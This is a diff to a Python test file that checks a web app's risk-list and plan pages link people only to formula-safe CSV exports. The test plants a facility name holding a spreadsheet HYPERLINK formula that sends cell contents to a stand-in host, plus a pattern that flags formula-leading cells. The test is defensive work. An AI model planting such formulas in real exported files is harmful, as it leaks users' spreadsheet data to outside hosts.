@@ -3,7 +3,9 @@ could make the app do or tell."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import time
 from collections import Counter
 from collections.abc import Iterator
@@ -21,7 +23,8 @@ from data.settings import Settings
 from data.store import open_database
 from tests.api.conftest import AUTH, TOKEN, make_settings
 from tests.api.html_parse import Page
-from tests.api.test_plan_data_changes import home, notice, planned
+from tests.api.test_plan_data_changes import home, notice, planned, upload
+from tests.factories import facilities_frame
 
 __all__ = ["home", "planned"]  # fixtures
 
@@ -207,3 +210,41 @@ def test_since_in_the_autumns_repeated_hour(copenhagen: None, client: TestClient
     assert found("2026-10-25T02:30:00+01:00") == ids[2:]  # the second 02:30: every stored 02:10 is before it
     assert found("2026-10-25T01:30:00") == ids  # before the repeated hour: one moment
     assert found("2026-10-25T03:00:00") == ids[3:]
+
+
+FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"Klik")'
+
+
+def _csv_cells(data: bytes) -> list[str]:
+    text = data.decode("utf-8-sig")
+    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+def test_every_csv_a_web_page_leads_a_person_to_is_formula_safe(
+    planned: TestClient, home: Path, tmp_path: Path
+) -> None:
+    """The case systems' CSVs (``/api/v1/risk?format=csv``, a plan's ``export.csv``) are not formula-safe by design:
+    machines read them, and a tilbud's name is theirs as stored. But the risk list's page and the plan page linked them
+    ("CSV til fagsystemer") beside "CSV til Excel", so a person downloaded a ``.csv`` that Excel opened with a tilbud
+    named ``=HYPERLINK(…)`` as a live formula. The pages now lead a person only to the spreadsheet CSVs, and name the
+    API (its documentation) for case systems."""
+    facilities = facilities_frame()
+    facilities.loc[facilities["facility_id"] == "F1", "name"] = FORMULA
+    upload(home, tmp_path, "navne", facilities=facilities)
+    # the case systems' CSV keeps the name as stored
+    assert FORMULA in _csv_cells(planned.get("/api/v1/risk?format=csv").content)
+
+    for page_url in ("/risiko", "/planer/1"):
+        page = Page(planned.get(page_url, headers=AUTH).text)
+        links = [a.attrs["href"] for a in page.root.find_all("a") if "csv" in a.attrs.get("href", "")]
+        assert links, page_url
+        for link in links:
+            response = planned.get(link, headers=AUTH)
+            assert response.status_code == 200, link
+            risky = [
+                c for c in _csv_cells(response.content) if c.startswith(("=", "+", "-", "@")) and not c.startswith('="')
+            ]
+            assert risky == [], (page_url, link, risky[:3])
+        assert page.by_id("api-docs-csv") is not None, page_url
+        assert "/api/v1/docs" in page.by_id("api-docs-csv").attrs["href"]  # type: ignore[union-attr]
